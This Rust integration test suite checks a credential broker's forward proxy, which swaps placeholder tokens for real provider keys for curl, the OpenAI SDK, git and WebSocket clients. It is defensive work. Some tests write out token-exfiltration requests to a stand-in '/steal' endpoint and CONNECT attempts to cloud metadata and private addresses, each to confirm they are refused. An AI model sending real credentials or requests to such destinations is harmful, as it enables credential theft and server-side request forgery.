//! The forward proxy (HTTPS_PROXY mode) end to end: unmodified clients (curl, the official
//! OpenAI SDK) reach a local TLS mock standing in for a provider's real host name, with the
//! broker's CA in their trust store and their token as a placeholder for the real key; tokens
//! headed anywhere else, and destinations the egress guard refuses, are refused and audited.

use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;
use serde_json::Value;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::process::Command;

use crate::support::git::GitServer;
use crate::support::mock::MockUpstream;
use crate::support::tls::TestCa;
use crate::support::ws::WsEcho;
use crate::support::{Broker, CliOutput, Env, run_python};

/// The real key behind the test's OpenAI token.
const OPENAI_KEY: &str = "sk-REAL-openai-key-0123456789";
/// Host names the TLS mock answers for (resolved to it by `[resolve]`).
const MOCK_NAMES: [&str; 5] = [
    "api.openai.com",
    "echo.example.test",
    "github.com",
    "ws.example.test",
    "slack.com",
];

/// A broker with its forward proxy, a TLS mock standing in for api.openai.com and for
/// echo.example.test (an allowed host that is no provider's), and an OpenAI token.
struct Setup {
    env: Env,
    mock: MockUpstream,
    broker: Broker,
    proxy: SocketAddr,
    /// The broker's CA, as `seks ca export` printed it.
    ca_file: PathBuf,
    token: String,
}

async fn setup(extra_toml: &str) -> Setup {
    setup_with(TestCa::for_names(&MOCK_NAMES), extra_toml).await
}

/// [`setup`] with the upstreams' CA given; `extra_toml` follows the `[resolve]` table (so
/// its first lines may add to it).
async fn setup_with(test_ca: TestCa, extra_toml: &str) -> Setup {
    let mock = MockUpstream::start_tls(test_ca.acceptor.clone()).await;
    let env = Env::new("");
    let upstream_ca = env.data_dir().join("upstream-ca.pem");
    std::fs::write(&upstream_ca, &test_ca.ca_pem).unwrap();
    let port = mock.addr.port();
    let config = format!(
        r#"
[upstream]
extra_ca_file = "{}"
connect_timeout = "2s"
response_timeout = "5s"
read_timeout = "5s"

[forward]
allow = ["echo.example.test", "internal.example.test", "metadata.example.test:80",
         "169.254.169.254:80", "[fd00:ec2::254]:80"]
allow_addresses = ["127.0.0.1"]

[resolve]
"api.openai.com" = "127.0.0.1:{port}"
"echo.example.test" = "127.0.0.1:{port}"
"slack.com" = "127.0.0.1:{port}"
"internal.example.test" = "10.255.255.1"
"metadata.example.test" = "169.254.169.254"
{extra_toml}
"#,
        upstream_ca.display(),
        extra_toml = extra_toml.replace("MOCK_PORT", &port.to_string()),
    );
    std::fs::write(&env.config, config).unwrap();
    env.add_secret("main", "openai", OPENAI_KEY).await;
    let token = env.create_token("main", &["--agent", "proxied"]).await;
    let exported = env.cli(&["ca", "export"], "").await.ok().stdout;
    assert!(
        exported.starts_with("-----BEGIN CERTIFICATE-----"),
        "{exported}"
    );
    let again = env.cli(&["ca", "export"], "").await.ok().stdout;
    assert_eq!(exported, again, "the CA is made once");
    let ca_file = env.data_dir().join("broker-ca.pem");
    std::fs::write(&ca_file, &exported).unwrap();
    let broker = env
        .serve_with(&[("SEKS_PROXY_LISTEN", "127.0.0.1:0")])
        .await;
    let proxy = broker.proxy_addr().await;
    Setup {
        env,
        mock,
        broker,
        proxy,
        ca_file,
        token,
    }
}

/// What curl got.
#[derive(Debug)]
struct Curl {
    /// The final response's status (0 when there was none).
    status: u16,
    /// The CONNECT response's status (0 when no tunnel was asked for).
    connect: u16,
    /// Every response head curl saw, lowercased.
    headers: String,
    body: String,
    /// Shown in assertion messages (through `Debug`).
    #[allow(dead_code)]
    stderr: String,
}

impl Curl {
    fn seks_error(&self) -> Option<&str> {
        self.headers
            .lines()
            .filter_map(|l| l.strip_prefix("x-seks-error: "))
            .map(str::trim)
            .next_back()
    }
}

/// Run curl with `HTTPS_PROXY=http://agent:<proxy_token>@proxy` and the broker's CA.
async fn curl_with(s: &Setup, proxy_token: &str, args: &[&str]) -> Curl {
    let dir = tempfile::tempdir().unwrap();
    let (head, body) = (dir.path().join("head"), dir.path().join("body"));
    let out = Command::new("curl")
        .args(["-sS", "--max-time", "20", "--cacert"])
        .arg(&s.ca_file)
        .arg("-D")
        .arg(&head)
        .arg("-o")
        .arg(&body)
        .args(["-w", "%{http_code} %{http_connect}"])
        .args(args)
        .env(
            "HTTPS_PROXY",
            format!("http://agent:{proxy_token}@{}", s.proxy),
        )
        .env_remove("https_proxy")
        .env_remove("NO_PROXY")
        .env_remove("no_proxy")
        .env_remove("ALL_PROXY")
        .output()
        .await
        .expect("run curl");
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let mut codes = stdout.split_whitespace().map(|c| c.parse().unwrap_or(0));
    Curl {
        status: codes.next().unwrap_or(0),
        connect: codes.next().unwrap_or(0),
        headers: std::fs::read_to_string(&head)
            .unwrap_or_default()
            .to_ascii_lowercase(),
        body: std::fs::read_to_string(&body).unwrap_or_default(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

async fn curl(s: &Setup, args: &[&str]) -> Curl {
    curl_with(s, &s.token, args).await
}

/// Audit records, newest first.
async fn audit(env: &Env) -> Vec<Value> {
    let out = env
        .cli(&["audit", "tail", "-n", "100", "--json"], "")
        .await
        .ok();
    out.stdout
        .lines()
        .map(|l| serde_json::from_str(l).expect("audit json"))
        .rev()
        .collect()
}

/// Wait until the audit log has a record with error `code`, and return it.
async fn record_with_error(env: &Env, code: &str) -> Value {
    for _ in 0..100 {
        if let Some(r) = audit(env).await.into_iter().find(|r| r["error"] == code) {
            return r;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("no audit record with error {code}");
}

async fn metrics(broker: &Broker) -> String {
    let admin = broker.admin_url().await;
    crate::support::http::send("GET", &format!("{admin}/metrics"), &[], "")
        .await
        .body
}

#[tokio::test]
async fn curl_reaches_a_provider_host_with_the_real_key_and_the_token_goes_nowhere_else() {
    let s = setup("").await;
    let bearer = format!("authorization: Bearer {}", s.token);

    let ok = curl(
        &s,
        &[
            "-H",
            &bearer,
            "-H",
            "content-type: application/json",
            "-d",
            r#"{"model":"gpt-4o-mini","messages":[{"role":"user","content":"hi"}]}"#,
            "https://api.openai.com/v1/chat/completions",
        ],
    )
    .await;
    assert_eq!((ok.connect, ok.status), (200, 200), "{ok:#?}");
    assert!(ok.body.contains("Hello from the mock"), "{ok:#?}");
    let seen = s.mock.requests();
    let upstream = seen.last().unwrap();
    assert_eq!(upstream.target, "/v1/chat/completions");
    assert_eq!(
        upstream.header("authorization"),
        Some(format!("Bearer {OPENAI_KEY}").as_str())
    );
    assert_eq!(upstream.header("host"), Some("api.openai.com"));
    assert!(upstream.header("proxy-authorization").is_none());
    assert!(
        !upstream.raw().contains(&s.token),
        "the token never goes upstream"
    );

    // An allowed host that is no provider's gets requests without tokens, as they are.
    let plain = curl(&s, &["https://echo.example.test/v1/anything"]).await;
    assert_eq!(plain.status, 200, "{plain:#?}");
    assert!(
        s.mock
            .requests()
            .last()
            .unwrap()
            .header("authorization")
            .is_none()
    );

    // The same token headed anywhere else, in any of the places tools put credentials.
    let before = s.mock.requests().len();
    let basic_user = format!("{}:", s.token);
    let query = format!("https://echo.example.test/steal?key={}", s.token);
    let path = format!("https://echo.example.test/bot{}/getMe", s.token);
    let encoded = format!(
        "https://echo.example.test/steal?k={}",
        s.token.replace('_', "%5F")
    );
    for args in [
        vec!["-H", bearer.as_str(), "https://echo.example.test/steal"],
        vec!["-u", basic_user.as_str(), "https://echo.example.test/steal"],
        vec!["-H", "x-api-key: x", query.as_str()],
        vec![path.as_str()],
        vec![encoded.as_str()],
        // A provider's host on another port is no destination at all.
        vec![
            "-H",
            bearer.as_str(),
            "https://api.openai.com:8443/v1/models",
        ],
    ] {
        let refused = curl(&s, &args).await;
        let expected = if args.last().unwrap().contains(":8443") {
            // Not even a destination: the tunnel is refused.
            (403, 0)
        } else {
            (200, 403)
        };
        assert_eq!(
            (refused.connect, refused.status),
            expected,
            "{args:?}: {refused:#?}"
        );
        if expected.1 == 403 {
            assert_eq!(
                refused.seks_error(),
                Some("token_to_foreign_host"),
                "{refused:#?}"
            );
        }
    }
    assert_eq!(
        s.mock.requests().len(),
        before,
        "nothing reached the other host"
    );

    // A redirect to another host does not take the credential (or the token) with it.
    let redirect = "https://api.openai.com/v1/redirect?to=https://echo.example.test/landing";
    let followed = curl(&s, &["-L", "--location-trusted", "-H", &bearer, redirect]).await;
    assert_eq!(followed.status, 403, "{followed:#?}");
    assert_eq!(followed.seks_error(), Some("token_to_foreign_host"));
    let after = s.mock.requests();
    assert_eq!(after.len(), before + 1, "only the first hop went out");
    assert!(after.iter().all(|r| !r.target.starts_with("/landing")));

    // The refusal is audited against the token that was sent, and counted.
    let record = record_with_error(&s.env, "token_to_foreign_host").await;
    assert_eq!(record["status"], 403);
    assert_eq!(record["decision"], "denied");
    assert_eq!(record["agent"], "proxied");
    assert_eq!(record["token_id"], s.env.token_id("proxied").await.as_str());
    assert!(
        record["host"]
            .as_str()
            .is_some_and(|h| h.starts_with("echo.example.test:443")),
        "{record}"
    );
    let allowed = audit(&s.env)
        .await
        .into_iter()
        .find(|r| r["path"] == "/v1/chat/completions")
        .expect("the proxied request's record");
    assert_eq!(allowed["decision"], "allowed");
    assert_eq!(allowed["provider"], "openai");
    assert_eq!(allowed["host"], "api.openai.com:443");
    let text = metrics(&s.broker).await;
    assert!(
        text.lines()
            .any(|l| l.starts_with("seks_tokens_to_foreign_hosts_total{provider=\"openai\"} 6")),
        "{text}"
    );
    let transcript = s.env.transcript();
    assert!(!transcript.contains(OPENAI_KEY) && !transcript.contains(&s.token));
    s.broker.stop().await;
}

#[tokio::test]
async fn the_tokens_policy_applies_and_trace_is_refused_through_the_proxy() {
    let s = setup("").await;
    let narrow = s
        .env
        .create_token("main", &["--agent", "narrow", "--allow", "GET /v1/models"])
        .await;
    let bearer = format!("authorization: Bearer {narrow}");
    let denied = curl(
        &s,
        &[
            "-H",
            &bearer,
            "-d",
            "{}",
            "https://api.openai.com/v1/chat/completions",
        ],
    )
    .await;
    assert_eq!(denied.status, 403, "{denied:#?}");
    assert_eq!(denied.seks_error(), Some("policy_denied"));
    let models = curl(&s, &["-H", &bearer, "https://api.openai.com/v1/models"]).await;
    assert_eq!(models.status, 200, "{models:#?}");

    let trace = curl(
        &s,
        &[
            "-X",
            "TRACE",
            "-H",
            &bearer,
            "https://api.openai.com/v1/models",
        ],
    )
    .await;
    assert_eq!(trace.status, 400, "{trace:#?}");
    assert_eq!(trace.seks_error(), Some("method_not_allowed"));

    // Two different tokens in one request: which one counts would be a guess.
    let both = curl(
        &s,
        &[
            "-H",
            &bearer,
            "-H",
            &format!("x-api-key: {}", s.token),
            "https://api.openai.com/v1/models",
        ],
    )
    .await;
    assert_eq!(both.seks_error(), Some("ambiguous_token"), "{both:#?}");

    // A copy where no credential goes (a provider might store it for others to read) is
    // never replaced: the request is refused.
    let misplaced = curl(
        &s,
        &[
            "-H",
            &bearer,
            "-A",
            &narrow,
            "https://api.openai.com/v1/models",
        ],
    )
    .await;
    assert_eq!(misplaced.status, 400, "{misplaced:#?}");
    assert_eq!(misplaced.seks_error(), Some("token_misplaced"));

    // A revoked proxy token closes the proxy to its holder.
    let id = s.env.token_id("narrow").await;
    s.env.cli(&["token", "revoke", &id], "").await.ok();
    tokio::time::sleep(Duration::from_millis(1200)).await;
    let revoked = curl_with(&s, &narrow, &["https://echo.example.test/"]).await;
    assert_eq!(revoked.connect, 407, "{revoked:#?}");
    s.broker.stop().await;
}

#[tokio::test]
async fn the_official_openai_sdk_works_with_its_default_base_url_through_the_proxy() {
    let s = setup("").await;
    let proxy = format!("http://agent:{}@{}", s.token, s.proxy);
    let ca = s.ca_file.display().to_string();
    for scenario in ["chat", "stream"] {
        let out = run_python(
            "openai_client.py",
            &[scenario],
            &[
                ("SEKS_TOKEN", s.token.as_str()),
                ("HTTPS_PROXY", proxy.as_str()),
                ("SSL_CERT_FILE", ca.as_str()),
            ],
        )
        .await;
        assert!(out.status.success(), "{scenario}: {out:#?}");
    }
    let seen = s.mock.requests();
    assert_eq!(seen.len(), 2);
    for request in seen {
        assert_eq!(request.header("host"), Some("api.openai.com"));
        assert_eq!(
            request.header("authorization"),
            Some(format!("Bearer {OPENAI_KEY}").as_str())
        );
    }
    s.broker.stop().await;
}

/// Send `CONNECT target` with the token as Basic proxy credentials; the status and the stream.
async fn connect(proxy: SocketAddr, target: &str, token: Option<&str>) -> (u16, String, TcpStream) {
    let mut stream = TcpStream::connect(proxy).await.unwrap();
    let auth = token.map_or(String::new(), |t| {
        format!(
            "Proxy-Authorization: Basic {}\r\n",
            BASE64.encode(format!("agent:{t}"))
        )
    });
    let head = format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n{auth}\r\n");
    stream.write_all(head.as_bytes()).await.unwrap();
    let mut buf = Vec::new();
    let mut byte = [0u8; 1];
    // Byte by byte, so nothing of the tunnel is read past the response head.
    while !buf.ends_with(b"\r\n\r\n") {
        let n = tokio::time::timeout(Duration::from_secs(10), stream.read(&mut byte))
            .await
            .expect("CONNECT answered")
            .unwrap();
        assert_eq!(n, 1, "closed before the response head ended");
        buf.push(byte[0]);
    }
    let text = String::from_utf8_lossy(&buf).into_owned();
    let status = text.split_whitespace().nth(1).unwrap().parse().unwrap();
    (status, text.to_ascii_lowercase(), stream)
}

async fn tls_client(ca_file: &Path) -> tokio_rustls::TlsConnector {
    use rustls_pki_types::pem::PemObject;
    let mut roots = rustls::RootCertStore::empty();
    roots
        .add(rustls_pki_types::CertificateDer::from_pem_file(ca_file).unwrap())
        .unwrap();
    let config = rustls::ClientConfig::builder_with_provider(Arc::new(
        rustls::crypto::aws_lc_rs::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_root_certificates(roots)
    .with_no_client_auth();
    tokio_rustls::TlsConnector::from(Arc::new(config))
}

#[tokio::test]
async fn the_egress_guard_refuses_metadata_private_addresses_the_admin_port_and_mismatched_hosts() {
    let s = setup("").await;
    let admin = s.broker.admin_url().await;
    let admin_port = admin.rsplit(':').next().unwrap();
    let (admin_ip, admin_name) = (
        format!("127.0.0.1:{admin_port}"),
        format!("localhost:{admin_port}"),
    );
    for (target, code) in [
        // On the allow list, but the address is cloud metadata or private: never dialled.
        ("169.254.169.254:80", "address_not_allowed"),
        ("metadata.example.test:80", "address_not_allowed"),
        ("[fd00:ec2::254]:80", "address_not_allowed"),
        ("internal.example.test:443", "address_not_allowed"),
        // Not on it at all, though 127.0.0.1 may be dialled (for the mock).
        (admin_ip.as_str(), "destination_not_allowed"),
        (admin_name.as_str(), "destination_not_allowed"),
        ("evil.example:443", "destination_not_allowed"),
        ("api.openai.com:80", "destination_not_allowed"),
    ] {
        let (status, head, _) = connect(s.proxy, target, Some(&s.token)).await;
        assert_eq!(status, 403, "{target}: {head}");
        assert!(
            head.contains(&format!("x-seks-error: {code}")),
            "{target}: {head}"
        );
    }
    let record = record_with_error(&s.env, "address_not_allowed").await;
    assert_eq!(record["method"], "CONNECT");
    assert_eq!(record["agent"], "proxied");

    // No caller, no tunnel: 407 with a challenge, before anything about the destination.
    let (status, head, _) = connect(s.proxy, "evil.example:443", None).await;
    assert_eq!(status, 407, "{head}");
    assert!(head.contains("proxy-authenticate: basic"), "{head}");
    assert!(head.contains("x-seks-error: proxy_auth_required"), "{head}");
    let (status, _, _) = connect(s.proxy, "api.openai.com:443", Some("seks_openai_nope")).await;
    assert_eq!(status, 407);

    // A TLS server name other than the CONNECT target ends the tunnel.
    let (status, _, stream) = connect(s.proxy, "api.openai.com:443", Some(&s.token)).await;
    assert_eq!(status, 200);
    let name = rustls_pki_types::ServerName::try_from("echo.example.test").unwrap();
    let handshake = tls_client(&s.ca_file).await.connect(name, stream).await;
    assert!(handshake.is_err(), "the SNI must match the CONNECT target");
    // The same name as the target gets a certificate the client trusts.
    let (_, _, stream) = connect(s.proxy, "api.openai.com:443", Some(&s.token)).await;
    let name = rustls_pki_types::ServerName::try_from("api.openai.com").unwrap();
    assert!(
        tls_client(&s.ca_file)
            .await
            .connect(name, stream)
            .await
            .is_ok()
    );

    // A Host header naming another host than the tunnel's: refused, token or not.
    let before = s.mock.requests().len();
    let bearer = format!("authorization: Bearer {}", s.token);
    for extra in [vec![], vec!["-H", bearer.as_str()]] {
        let mut args = vec!["-H", "host: echo.example.test"];
        args.extend(extra);
        args.push("https://api.openai.com/v1/models");
        let mismatch = curl(&s, &args).await;
        assert_eq!(mismatch.status, 400, "{mismatch:#?}");
        assert_eq!(mismatch.seks_error(), Some("host_mismatch"));
    }
    // curl refuses the tunnel itself when the proxy refuses the CONNECT.
    let refused = curl(&s, &["https://evil.example/"]).await;
    assert_eq!(refused.connect, 403, "{refused:#?}");
    assert_eq!(
        s.mock.requests().len(),
        before,
        "nothing reached an upstream"
    );
    let text = metrics(&s.broker).await;
    for reason in [
        "address_not_allowed",
        "destination_not_allowed",
        "host_mismatch",
    ] {
        assert!(
            text.contains(&format!("seks_egress_refused_total{{reason=\"{reason}\"}}")),
            "{reason}: {text}"
        );
    }
    s.broker.stop().await;
}

#[tokio::test]
async fn an_http2_tunnel_that_opens_no_stream_is_cut() {
    let s = setup("").await;
    let (status, _, stream) = connect(s.proxy, "api.openai.com:443", Some(&s.token)).await;
    assert_eq!(status, 200);
    use rustls_pki_types::pem::PemObject;
    let mut roots = rustls::RootCertStore::empty();
    roots
        .add(rustls_pki_types::CertificateDer::from_pem_file(&s.ca_file).unwrap())
        .unwrap();
    let mut config = rustls::ClientConfig::builder_with_provider(Arc::new(
        rustls::crypto::aws_lc_rs::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_root_certificates(roots)
    .with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    let name = rustls_pki_types::ServerName::try_from("api.openai.com").unwrap();
    let mut tls = tokio_rustls::TlsConnector::from(Arc::new(config))
        .connect(name, stream)
        .await
        .unwrap();
    // A live HTTP/2 client that never sends a request.
    let mut hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    hello.extend_from_slice(&[0, 0, 0, 4, 0, 0, 0, 0, 0]);
    hello.extend_from_slice(&[0, 0, 0, 4, 1, 0, 0, 0, 0]);
    tls.write_all(&hello).await.unwrap();
    let started = std::time::Instant::now();
    let mut buf = Vec::new();
    let read = tokio::time::timeout(Duration::from_secs(60), tls.read_to_end(&mut buf)).await;
    assert!(read.is_ok(), "the tunnel was still open after 60 s");
    assert!(
        started.elapsed() < Duration::from_secs(45),
        "{:?}",
        started.elapsed()
    );
    s.broker.stop().await;
}

/// Send one raw request to the proxy and read its response head.
async fn raw_head(proxy: SocketAddr, request: &str) -> String {
    let mut stream = TcpStream::connect(proxy).await.unwrap();
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut buf = Vec::new();
    let mut chunk = [0u8; 1024];
    while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
        let n = tokio::time::timeout(Duration::from_secs(10), stream.read(&mut chunk))
            .await
            .expect("answered")
            .unwrap();
        assert!(n > 0, "closed before the response head ended");
        buf.extend_from_slice(&chunk[..n]);
    }
    String::from_utf8_lossy(&buf).to_ascii_lowercase()
}

#[tokio::test]
async fn an_unauthenticated_absolute_form_request_learns_nothing_about_destinations() {
    let s = setup("").await;
    // Off the allow list, and on it but resolving to cloud metadata: without a caller, both
    // are the same 407, as for CONNECT.
    for host in ["evil.example", "metadata.example.test"] {
        let head = raw_head(
            s.proxy,
            &format!("GET http://{host}/ HTTP/1.1\r\nhost: {host}\r\n\r\n"),
        )
        .await;
        assert!(head.starts_with("http/1.1 407"), "{host}: {head}");
        assert!(head.contains("proxy-authenticate: basic"), "{host}: {head}");
        assert!(
            head.contains("x-seks-error: proxy_auth_required"),
            "{host}: {head}"
        );
    }
    s.broker.stop().await;
}

#[tokio::test]
async fn absolute_form_http_requests_are_relayed_and_credentials_stay_off_plain_http_to_real_hosts()
{
    let plain = MockUpstream::start().await;
    let s = setup(&format!(
        "[providers.mistral]\nbase_url = \"{}\"\n",
        plain.url()
    ))
    .await;
    s.env
        .add_secret("mistral", "mistral", "mistral-REAL-key-0123")
        .await;
    let mistral = s.env.create_token("mistral", &["--agent", "proxied"]).await;
    let proxy = format!("http://agent:{}@{}", s.token, s.proxy);
    let run = |url: String, token: String| {
        let proxy = proxy.clone();
        async move {
            let out = Command::new("curl")
                .args([
                    "-sS",
                    "--max-time",
                    "20",
                    "-w",
                    "\n%{http_code}",
                    "-x",
                    &proxy,
                ])
                .args(["-H", &format!("authorization: Bearer {token}"), &url])
                .output()
                .await
                .unwrap();
            String::from_utf8_lossy(&out.stdout).into_owned()
        }
    };
    let ok = run(format!("{}/v1/models", plain.url()), mistral.clone()).await;
    assert!(ok.ends_with("\n200"), "{ok}");
    assert_eq!(
        plain.requests().last().unwrap().header("authorization"),
        Some("Bearer mistral-REAL-key-0123")
    );
    let refused = run(
        "http://api.openai.com/v1/models".to_owned(),
        s.token.clone(),
    )
    .await;
    assert!(refused.ends_with("\n403"), "{refused}");
    assert!(refused.contains("destination_not_allowed"), "{refused}");
    assert_eq!(plain.requests().len(), 1);
    s.broker.stop().await;
}

/// The real key behind the test's GitHub token.
const GITHUB_KEY: &str = "ghp_REALgithubKey0123456789abcdef";

/// Run git in `dir` with a clean configuration and `env`.
async fn git(dir: &Path, args: &[&str], env: &[(&str, &str)]) -> CliOutput {
    let out = Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("HOME", dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_TERMINAL_PROMPT", "0")
        .env("GIT_AUTHOR_NAME", "Agent")
        .env("GIT_AUTHOR_EMAIL", "agent@example.test")
        .env("GIT_COMMITTER_NAME", "Agent")
        .env("GIT_COMMITTER_EMAIL", "agent@example.test")
        .env_remove("https_proxy")
        .env_remove("HTTPS_PROXY")
        .env_remove("NO_PROXY")
        .env_remove("no_proxy")
        .envs(env.iter().copied())
        .output()
        .await
        .expect("run git");
    CliOutput {
        status: out.status,
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

#[tokio::test]
async fn git_clones_and_pushes_through_the_proxy_with_a_github_token_in_the_url() {
    // A bare repository with one commit, served as github.com/acme/repo.git.
    let work = tempfile::tempdir().unwrap();
    let (srv, seed, agent) = (
        work.path().join("srv"),
        work.path().join("seed"),
        work.path().join("agent"),
    );
    for dir in [&srv, &seed, &agent] {
        std::fs::create_dir_all(dir).unwrap();
    }
    let bare = srv.join("acme/repo.git");
    let bare_text = bare.display().to_string();
    git(
        &srv,
        &["init", "-q", "--bare", "-b", "main", &bare_text],
        &[],
    )
    .await
    .ok();
    git(&seed, &["init", "-q", "-b", "main"], &[]).await.ok();
    std::fs::write(seed.join("README"), "hello\n").unwrap();
    git(&seed, &["add", "README"], &[]).await.ok();
    git(&seed, &["commit", "-q", "-m", "first"], &[]).await.ok();
    git(&seed, &["push", "-q", &bare_text, "main"], &[])
        .await
        .ok();

    let test_ca = TestCa::for_names(&MOCK_NAMES);
    let server = GitServer::start(&srv, test_ca.acceptor.clone(), GITHUB_KEY).await;
    let s = setup_with(
        test_ca,
        &format!("\"github.com\" = \"127.0.0.1:{}\"\n", server.addr.port()),
    )
    .await;
    s.env.add_secret("gh", "github", GITHUB_KEY).await;
    let token = s.env.create_token("gh", &["--agent", "coder"]).await;
    let proxy = format!("http://agent:{token}@{}", s.proxy);
    let ca = s.ca_file.display().to_string();
    let env = [
        ("HTTPS_PROXY", proxy.as_str()),
        ("GIT_SSL_CAINFO", ca.as_str()),
    ];

    let url = format!("https://x-access-token:{token}@github.com/acme/repo.git");
    let cloned = git(&agent, &["clone", "-q", &url, "repo"], &env).await;
    assert!(cloned.status.success(), "{cloned:#?}");
    let repo = agent.join("repo");
    assert_eq!(
        std::fs::read_to_string(repo.join("README")).unwrap(),
        "hello\n"
    );

    std::fs::write(repo.join("CHANGES"), "from the agent\n").unwrap();
    git(&repo, &["add", "CHANGES"], &[]).await.ok();
    git(&repo, &["commit", "-q", "-m", "second"], &[])
        .await
        .ok();
    let pushed = git(&repo, &["push", "-q", "origin", "main"], &env).await;
    assert!(pushed.status.success(), "{pushed:#?}");
    let log = git(
        &srv,
        &["--git-dir", &bare_text, "log", "--format=%s", "main"],
        &[],
    )
    .await
    .ok();
    assert_eq!(log.stdout, "second\nfirst\n");

    // git asked without credentials first, got GitHub's 401, and retried with Basic: the
    // retries carried the real key, and nothing ever carried the token.
    let seen = server.requests();
    assert!(seen.iter().any(|r| r.authorization.is_none()), "{seen:#?}");
    let expected = format!(
        "Basic {}",
        BASE64.encode(format!("x-access-token:{GITHUB_KEY}"))
    );
    let authed: Vec<_> = seen.iter().filter(|r| r.authorization.is_some()).collect();
    assert!(
        authed
            .iter()
            .any(|r| r.method == "POST" && r.target.ends_with("/git-receive-pack")),
        "{seen:#?}"
    );
    assert!(
        authed
            .iter()
            .all(|r| r.authorization.as_deref() == Some(expected.as_str()))
    );
    assert!(seen.iter().all(|r| !format!("{r:?}").contains(&token)));
    let push = "/acme/repo.git/git-receive-pack";
    let mut records = audit(&s.env).await;
    for _ in 0..50 {
        if records.iter().any(|r| r["path"] == push) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
        records = audit(&s.env).await;
    }
    let pushes: Vec<_> = records.iter().filter(|r| r["path"] == push).collect();
    assert!(!pushes.is_empty(), "{records:#?}");
    assert!(pushes.iter().all(|r| r["provider"] == "github"
        && r["agent"] == "coder"
        && r["host"] == "github.com:443"
        && r["decision"] == "allowed"));
    let transcript = s.env.transcript();
    assert!(!transcript.contains(GITHUB_KEY) && !transcript.contains(&token));
    s.broker.stop().await;
}

/// A WebSocket echo server behind the provider `wsecho` (`wss://ws.example.test`, the key in
/// `Authorization`), and a broker for it with `extra_toml` in its config.
/// The key the WebSocket echo's provider holds.
const WS_KEY: &str = "ws-REAL-key-0123456789";

/// A broker whose `wsecho` provider is a WebSocket echo upstream holding [`WS_KEY`], and a
/// token for it (agent `socket`).
async fn ws_setup(extra_toml: &str) -> (WsEcho, Setup, String) {
    let test_ca = TestCa::for_names(&MOCK_NAMES);
    let echo = WsEcho::start(test_ca.acceptor.clone()).await;
    let s = setup_with(
        test_ca,
        &format!(
            "\"ws.example.test\" = \"127.0.0.1:{}\"\n\
             [providers.wsecho]\n\
             base_url = \"https://ws.example.test\"\n\
             auth = {{ scheme = \"header\", name = \"authorization\", template = \"Bearer {{}}\" }}\n\
             {extra_toml}",
            echo.addr.port()
        ),
    )
    .await;
    s.env.add_secret("ws", "wsecho", WS_KEY).await;
    let token = s.env.create_token("ws", &["--agent", "socket"]).await;
    (echo, s, token)
}

#[tokio::test]
async fn websockets_carry_the_key_in_the_handshake_and_upstream_messages_are_scrubbed() {
    let (echo, s, token) = ws_setup("").await;
    let proxy = format!("http://agent:{token}@{}", s.proxy);
    let ca = s.ca_file.display().to_string();
    let base_url = format!("ws://{}/api/wsecho/socket", s.broker.addr);
    let modes: [(&str, Vec<(&str, &str)>); 2] = [
        // Base-URL mode: the broker's agent listener.
        (base_url.as_str(), vec![("SEKS_TOKEN", token.as_str())]),
        // Proxy mode: the provider's own URL, through HTTPS_PROXY.
        (
            "wss://ws.example.test/socket",
            vec![
                ("SEKS_TOKEN", token.as_str()),
                ("HTTPS_PROXY", proxy.as_str()),
                ("SSL_CERT_FILE", ca.as_str()),
            ],
        ),
    ];
    for (url, env) in modes {
        let out = run_python("ws_client.py", &[url], &env).await;
        assert!(out.status.success(), "{url}: {out:#?}");
        // The upstream said the key; the agent got it masked.
        let answer = out.stdout.trim();
        assert!(answer.starts_with("the key is *"), "{url}: {answer}");
        assert!(!answer.contains(WS_KEY), "{url}: {answer}");
    }
    let handshakes = echo.handshakes();
    assert_eq!(handshakes.len(), 2);
    for headers in handshakes {
        let get = |name: &str| {
            headers
                .iter()
                .find(|(k, _)| k == name)
                .map(|(_, v)| v.as_str())
        };
        assert_eq!(
            get("authorization"),
            Some(format!("Bearer {WS_KEY}").as_str())
        );
        assert_eq!(get("host"), Some("ws.example.test"));
        assert!(get("sec-websocket-extensions").is_none(), "{headers:?}");
        assert!(!format!("{headers:?}").contains(&token));
    }
    s.broker.stop().await;
}

/// Run `ws_client.py` with `args` and `env` until its session closes, revoke token `socket`
/// a second after the session opened, and check the agent was told within 2 s.
async fn closed_on_revocation(echo: &WsEcho, s: &Setup, args: &[&str], env: &[(&str, &str)]) {
    let client = run_python("ws_client.py", args, env);
    let revoke = async {
        while echo.handshakes().is_empty() {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        // The session is open and has echoed; nothing more goes either way.
        tokio::time::sleep(Duration::from_secs(1)).await;
        let id = s.env.token_id("socket").await;
        s.env.cli(&["token", "revoke", &id], "").await.ok();
        std::time::Instant::now()
    };
    let (out, revoked_at) = tokio::join!(client, revoke);
    let closed_after = revoked_at.elapsed();
    assert!(out.status.success(), "{out:#?}");
    assert_eq!(out.stdout.trim(), "closed 1008 token_revoked");
    assert!(
        closed_after < Duration::from_secs(2),
        "closed {closed_after:?} after the revocation"
    );
}

#[tokio::test]
async fn a_websocket_session_is_closed_once_its_token_is_revoked() {
    let (echo, s, token) = ws_setup("").await;
    let url = format!("ws://{}/api/wsecho/socket", s.broker.addr);
    let env = [("SEKS_TOKEN", token.as_str())];
    closed_on_revocation(&echo, &s, &[url.as_str(), "--until-closed"], &env).await;
    // The upstream is told the session is over too, not left with a dropped connection.
    assert_eq!(closes(&echo, 1).await, [Some(1001)]);
    s.broker.stop().await;
}

#[tokio::test]
async fn a_session_relayed_without_a_credential_is_closed_once_the_callers_token_is_revoked() {
